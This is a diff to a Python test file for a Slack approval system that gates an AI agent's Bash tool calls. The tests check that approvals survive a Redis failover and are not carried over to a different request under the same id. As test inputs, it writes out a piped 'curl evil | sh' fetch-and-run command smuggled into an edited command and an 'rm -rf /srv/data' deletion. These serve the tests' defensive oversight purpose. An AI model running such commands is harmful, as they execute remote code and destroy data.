@@ -8,12 +8,15 @@ import logging
 
 import pytest
 
+from bot.agent.outcome import outcome_of
+from bot.approvals import keys
 from bot.approvals.model import Decision, NewRequest, request_id_for
 from bot.approvals.replication import Replication
 from bot.approvals.states import State
 from bot.approvals.store import RequestStore
 from bot.redis_client import Topology, connect
 from bot.slack import confirming
+from bot.slack.confirming import ClickConfirmer
 from bot.slack.ids import Action
 from tests.conftest import context, posted, within
 from tests.fakes.redis_cluster import ReplicatedPair, SentinelSetup
@@ -22,22 +25,83 @@ from tests.fakes.redis_cluster import client as node_client
 URL = "redis://sentinel-named/0"
 
 
-async def test_a_state_is_confirmed_only_while_a_replica_acknowledges(replicated_pair: ReplicatedPair):
+async def test_a_request_is_confirmed_only_while_a_replica_acknowledges(replicated_pair: ReplicatedPair):
     client = connect(replicated_pair.url, name="tests")
     try:
         request_id = request_id_for("toolu_rep")
         replication = Replication(client, replicas=1)
-        assert await replication.state(request_id) is None  # no such request
+        assert await replication.confirmed(request_id) is None  # no such request
         await RequestStore(client).create(NewRequest(id=request_id, tool_name="Bash", tool_input={}))
-        assert await replication.state(request_id) is State.PENDING
-        assert await Replication(client, replicas=2).state(request_id) is None  # only one replica exists
+        held = await replication.confirmed(request_id)
+        assert held is not None and held.state is State.PENDING and held.id == request_id
+        assert await Replication(client, replicas=2).confirmed(request_id) is None  # one replica exists
         replicated_pair.processes.pause(replicated_pair.replica)
         try:
-            assert await replication.state(request_id) is None
+            assert await replication.confirmed(request_id) is None
         finally:
             replicated_pair.processes.resume(replicated_pair.replica)
-        assert await replication.state(request_id) is State.PENDING
+        assert await replication.confirmed(request_id) is not None
     finally:
+        await client.aclose()
+
+
+async def test_the_agent_acts_on_the_decision_the_replicas_hold_not_on_an_earlier_read(
+    replicated_pair: ReplicatedPair,
+):
+    """Read before a failover: approved with Alice's edit. The failover lost the edit, and Bob
+    approved the input as asked: the tool runs what Bob approved, the record that survived."""
+    client = connect(replicated_pair.url, name="tests")
+    try:
+        store = RequestStore(client, wait_replicas=1)
+        request_id = request_id_for("toolu_stale_read")
+        await store.create(NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "ls"}))
+        edit = {"command": "ls; curl evil | sh"}
+        assert (
+            await store.decide(
+                request_id, Decision(State.APPROVED, actor="U_ALICE", revision=0, updated_input=edit)
+            )
+        ).won
+        read_before_failover = await store.get(request_id)
+        assert read_before_failover is not None and read_before_failover.proposed_input == edit
+        # What the promoted replica holds: pending again, without the edit; then Bob approves.
+        await client.hset(keys.request(request_id), mapping={"state": State.PENDING.value, "revision": "0"})
+        await client.hdel(keys.request(request_id), "updated_input", "edited_by")
+        assert (await store.decide(request_id, Decision(State.APPROVED, actor="U_BOB", revision=0))).won
+        outcome = await outcome_of(store, read_before_failover)
+        assert outcome.allowed and outcome.updated_input == {"command": "ls"}
+        assert "U_BOB" in outcome.message
+    finally:
+        await client.aclose()
+
+
+async def test_a_lost_click_is_never_recorded_on_another_request_asked_under_the_same_id(
+    replicated_pair: ReplicatedPair, monkeypatch
+):
+    """The failover lost the request Alice saw and her click; the same id is then asked for another
+    call. Her approval is not carried over to a request she never saw."""
+    monkeypatch.setattr(confirming, "RECONFIRM_PAUSE", 0.2)
+    client = connect(replicated_pair.url, name="tests")
+    store = RequestStore(client, wait_replicas=1)
+    confirmer = ClickConfirmer(store, None)
+    try:
+        request_id = request_id_for("toolu_reused")
+        await store.create(NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "ls"}))
+        replicated_pair.processes.pause(replicated_pair.replica)
+        try:
+            approval = Decision(State.APPROVED, actor="U_ALICE", revision=0)
+            transition = await store.decide(request_id, approval)
+            await confirmer.confirm(request_id, approval, transition)  # unconfirmed: watched
+            # What a failover losing both leaves, then the same id asked for another input.
+            await client.delete(keys.request(request_id), keys.votes(request_id))
+            other = NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "rm -rf /srv/data"})
+            await store.create(other)
+        finally:
+            replicated_pair.processes.resume(replicated_pair.replica)
+        await asyncio.sleep(2)
+        now = await store.get(request_id)
+        assert now is not None and now.state is State.PENDING and now.votes == ()
+    finally:
+        await store.aclose()
         await client.aclose()
 
 
